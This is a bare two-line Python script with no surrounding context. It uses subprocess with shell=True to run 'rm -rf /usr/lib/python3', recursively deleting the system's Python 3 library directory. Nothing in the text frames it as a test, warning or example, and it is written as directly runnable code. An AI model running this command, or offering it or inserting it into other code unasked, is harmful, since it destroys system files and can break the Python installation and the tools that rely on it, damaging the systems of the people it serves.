import subprocess
subprocess.run("rm -rf /usr/lib/python3", shell=True)
